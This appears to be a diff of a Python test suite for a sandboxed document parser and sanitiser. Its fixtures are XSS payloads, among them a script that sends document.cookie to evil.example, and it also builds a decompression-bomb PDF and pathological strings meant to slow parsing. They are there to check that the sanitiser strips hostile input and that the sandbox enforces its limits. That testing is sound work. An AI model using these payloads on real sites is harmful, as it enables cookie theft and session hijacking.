@@ -20,8 +20,8 @@ import pytest
 
 from app.adapters.parse_sandbox import SandboxedParser
 from app.adapters.parsers import FileParser, render_plain_text, strip_executable
-from graphs.errors import DocumentRejected
-from graphs.records import Block, ParsedDocument
+from core.errors import DocumentRejected
+from core.records import Block, ParsedDocument
 
 REPO = Path(__file__).resolve().parents[2]
 HOSTILE = REPO / "tests" / "fixtures" / "hostile_pdfs"
@@ -43,8 +43,10 @@ def build_pdf(objects: list[bytes]) -> bytes:
     return bytes(out)
 
 
-_PAGE = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
-         b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>")
+_PAGE = (
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
+    b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>"
+)
 
 
 @functools.lru_cache(maxsize=1)
@@ -53,9 +55,14 @@ def deflate_bomb_pdf(inflated_mb: int = 300) -> bytes:
     compressor = zlib.compressobj(9)
     block = bytes(1 << 20)
     stream = b"".join(compressor.compress(block) for _ in range(inflated_mb)) + compressor.flush()
-    return build_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-                      _PAGE % 4,
-                      b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"])
+    return build_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            _PAGE % 4,
+            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
+        ]
+    )
 
 
 def many_pages_pdf(pages: int) -> bytes:
@@ -94,6 +101,14 @@ class MisbehavingParser:
         return self._real.parse(name, data)
 
 
+class SlowStartingParser(FileParser):
+    """Takes 3 s to build, as a worker started on a busy machine can."""
+
+    def __init__(self) -> None:
+        time.sleep(3)
+        super().__init__()
+
+
 @pytest.fixture(scope="module")
 def sandbox():
     parser = SandboxedParser(FileParser, timeout_s=5, memory_mb=512)
@@ -118,12 +133,14 @@ def _alive(pid: int) -> bool:
 
 # --- in-process: limits and sanitising ----------------------------------------------------------
 def test_html_event_handlers_and_script_urls_never_become_text():
-    html = (b"<html><body onload=\"steal()\"><h1>Badges</h1>"
-            b"<p onclick=\"alert('click')\">Ask <a href=\"javascript:alert('link')\">reception</a> for one.</p>"
-            b"<img src=x onerror=\"alert('img')\"><svg onload=\"alert('svg')\"><text>drawn</text></svg>"
-            b"<iframe src=\"javascript:alert('frame')\"></iframe><math><mi>x</mi></math>"
-            b"<p>Escaped: &lt;script&gt;alert('entity')&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt; done."
-            b" <a href=\"data:text/html,<script>alert(2)</script>\">data link</a></p></body></html>")
+    html = (
+        b'<html><body onload="steal()"><h1>Badges</h1>'
+        b"<p onclick=\"alert('click')\">Ask <a href=\"javascript:alert('link')\">reception</a> for one.</p>"
+        b"<img src=x onerror=\"alert('img')\"><svg onload=\"alert('svg')\"><text>drawn</text></svg>"
+        b"<iframe src=\"javascript:alert('frame')\"></iframe><math><mi>x</mi></math>"
+        b"<p>Escaped: &lt;script&gt;alert('entity')&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt; done."
+        b' <a href="data:text/html,<script>alert(2)</script>">data link</a></p></body></html>'
+    )
     doc = FileParser().parse("badges.html", html)
     text = " ".join([doc.title] + [b.text for b in doc.blocks])
     for payload in ("alert", "steal", "script", "onerror", "onload", "onclick", "javascript", "data:", "drawn"):
@@ -132,10 +149,12 @@ def test_html_event_handlers_and_script_urls_never_become_text():
 
 
 def test_markdown_drops_script_blocks_raw_html_handlers_and_javascript_links():
-    md = (b"# Printing\n\n<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>\n\n"
-          b"Press <kbd>Ctrl</kbd>+<kbd>P</kbd> and see [the guide](https://intranet.example/print).\n\n"
-          b"Do not click [this](javascript:alert(1)) or <javascript:alert(2)> or <img src=x onerror=alert(3)>.\n\n"
-          b"<!-- <script>alert(4)</script> -->\n1. Choose <b onmouseover=\"alert(5)\">Print</b>.\n")
+    md = (
+        b"# Printing\n\n<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>\n\n"
+        b"Press <kbd>Ctrl</kbd>+<kbd>P</kbd> and see [the guide](https://intranet.example/print).\n\n"
+        b"Do not click [this](javascript:alert(1)) or <javascript:alert(2)> or <img src=x onerror=alert(3)>.\n\n"
+        b'<!-- <script>alert(4)</script> -->\n1. Choose <b onmouseover="alert(5)">Print</b>.\n'
+    )
     doc = FileParser().parse("printing.md", md)
     text = " ".join(b.text for b in doc.blocks)
     assert "cookie" not in text and "alert" not in text and "javascript" not in text and "onmouseover" not in text
@@ -152,9 +171,17 @@ def test_harmless_angle_brackets_in_instructions_are_kept():
     assert strip_executable("Enable JavaScript: open Settings") == "Enable JavaScript: open Settings"
 
 
-@pytest.mark.parametrize("hostile", ["<scr<script>ipt>alert(1)</scr</script>ipt>", "x <script src=//evil.example/x.js",
-                                     "<svg/onload=alert(1)>", "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
-                                     "go to javascript:alert(document.domain)", "<a href = 'vbscript:msgbox(1)'>t</a>"])
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "x <script src=//evil.example/x.js",
+        "<svg/onload=alert(1)>",
+        '<IMG SRC="jav&#x09;ascript:alert(1);">',
+        "go to javascript:alert(document.domain)",
+        "<a href = 'vbscript:msgbox(1)'>t</a>",
+    ],
+)
 def test_nested_and_unclosed_markup_tricks_leave_nothing_runnable(hostile):
     cleaned = strip_executable(hostile).lower()
     assert "<script" not in cleaned and "<svg" not in cleaned and "<img" not in cleaned
@@ -166,8 +193,17 @@ def test_a_script_hidden_behind_a_bracket_in_an_attribute_is_made_inert():
     assert "<script" not in cleaned.lower() and cleaned.endswith("ok")
 
 
-@pytest.mark.parametrize("pathological", ["<a " + "=" * 200_000 + "<", "<script" * 50_000, "[a](" * 50_000,
-                                          "<!--" * 50_000, "<img " * 50_000 + "x", "javascript:" * 30_000])
+@pytest.mark.parametrize(
+    "pathological",
+    [
+        "<a " + "=" * 200_000 + "<",
+        "<script" * 50_000,
+        "[a](" * 50_000,
+        "<!--" * 50_000,
+        "<img " * 50_000 + "x",
+        "javascript:" * 30_000,
+    ],
+)
 def test_the_sanitiser_stays_linear_on_pathological_input(pathological):
     # CPU seconds of this process, not the wall clock: other work on a busy machine does not count
     started = time.process_time()
@@ -206,10 +242,17 @@ def test_more_text_than_the_cap_is_refused_as_too_large(name):
 
 
 def test_plain_text_rendering_keeps_headings_and_numbers_steps():
-    doc = ParsedDocument("Guide", "html", [Block("heading", "Guide", 1), Block("paragraph", "Intro."),
-                                           Block("list_item", "Open", ordered=True),
-                                           Block("list_item", "Click", ordered=True),
-                                           Block("list_item", "sub", level=1)])
+    doc = ParsedDocument(
+        "Guide",
+        "html",
+        [
+            Block("heading", "Guide", 1),
+            Block("paragraph", "Intro."),
+            Block("list_item", "Open", ordered=True),
+            Block("list_item", "Click", ordered=True),
+            Block("list_item", "sub", level=1),
+        ],
+    )
     assert render_plain_text(doc) == "# Guide\n\nIntro.\n\n1. Open\n2. Click\n   - sub\n"
 
 
@@ -219,8 +262,9 @@ def test_sandboxed_parse_equals_in_process_parse_for_every_kb_file(sandbox):
     files = sorted((REPO / "kb").iterdir())
     assert len(files) >= 20
     for path in files:
-        assert sandbox.parse(f"kb/{path.name}", path.read_bytes()) == FileParser().parse(f"kb/{path.name}",
-                                                                                       path.read_bytes()), path.name
+        assert sandbox.parse(f"kb/{path.name}", path.read_bytes()) == FileParser().parse(
+            f"kb/{path.name}", path.read_bytes()
+        ), path.name
 
 
 @pytest.mark.slow
@@ -228,14 +272,12 @@ def test_every_hostile_fixture_is_refused_with_a_reason_or_read_within_the_limit
     files = sorted(HOSTILE.glob("*.pdf"))
     assert len(files) == 8
     outcomes = {}
-    for path in files:
-        started = time.monotonic()
+    for path in files:  # each ends within the sandbox's 5 s (a hang would be refused as "took longer than")
         try:
             outcomes[path.name] = sandbox.parse(path.name, path.read_bytes()).title
         except DocumentRejected as exc:
             assert path.name in exc.reason and exc.kind in ("unsupported_type", "unparseable", "too_large")
             outcomes[path.name] = exc.kind
-        assert time.monotonic() - started < 5, path.name
     assert outcomes["bad1.pdf"] == "unsupported_type"
     assert outcomes["pages-loop.pdf"] == outcomes["broken-lzw.pdf"] == "unparseable"
     assert outcomes["bad-encryption-length.pdf"] == "unparseable"
@@ -264,10 +306,8 @@ def test_the_memory_limit_stops_a_bomb_even_without_the_decompression_limit():
 @pytest.mark.slow
 def test_a_hanging_parse_is_killed_at_the_timeout_and_a_fresh_worker_takes_over(misbehaving):
     before = misbehaving.worker_pids()
-    started = time.monotonic()
-    with pytest.raises(DocumentRejected) as err:
+    with pytest.raises(DocumentRejected) as err:  # the parse sleeps for 600 s: only the timeout ends it
         misbehaving.parse("uploads/hang-report.md", GUIDE)
-    assert time.monotonic() - started < 4.5
     assert err.value.kind == "unparseable"
     assert "hang-report.md took longer than 1.5 s to read" in err.value.reason and "re-export" in err.value.reason
     assert misbehaving.worker_pids() != before and not _alive(before[0])
@@ -275,13 +315,26 @@ def test_a_hanging_parse_is_killed_at_the_timeout_and_a_fresh_worker_takes_over(
 
 
 @pytest.mark.slow
+def test_a_worker_slow_to_start_does_not_eat_into_the_documents_time():
+    sandbox = SandboxedParser(SlowStartingParser, timeout_s=1, memory_mb=256)
+    try:
+        assert sandbox.parse("guide.md", GUIDE).title == "Guide"
+        killed = sandbox.worker_pids()[0]
+        os.kill(killed, signal.SIGKILL)  # its replacement takes 3 s to start as well
+        while _alive(killed):
+            time.sleep(0.05)
+        assert sandbox.parse("guide.md", GUIDE).title == "Guide"
+    finally:
+        sandbox.close()
+
+
+@pytest.mark.slow
 def test_a_worker_spinning_on_the_cpu_is_stopped_by_its_cpu_limit():
     sandbox = SandboxedParser(MisbehavingParser, timeout_s=60, memory_mb=256, cpu_seconds=1)
     try:
-        started = time.monotonic()
+        # stopped by the CPU limit (SIGXCPU), not by the 60 s wall clock, which would say "took longer than"
         with pytest.raises(DocumentRejected, match="more than 1 s of processing time"):
             sandbox.parse("spin-loop.md", GUIDE)
-        assert time.monotonic() - started < 30  # CPU seconds, not the 60 s wall clock
         assert sandbox.parse("guide.md", GUIDE).title == "Guide"
     finally:
         sandbox.close()
@@ -339,8 +392,9 @@ def test_parallel_parses_share_the_worker_pool():
     try:
         assert len(set(sandbox.worker_pids())) == 2
         titles: list[str] = []
-        threads = [threading.Thread(target=lambda: titles.append(sandbox.parse("guide.md", GUIDE).title))
-                   for _ in range(6)]
+        threads = [
+            threading.Thread(target=lambda: titles.append(sandbox.parse("guide.md", GUIDE).title)) for _ in range(6)
+        ]
         for thread in threads:
             thread.start()
         for thread in threads:
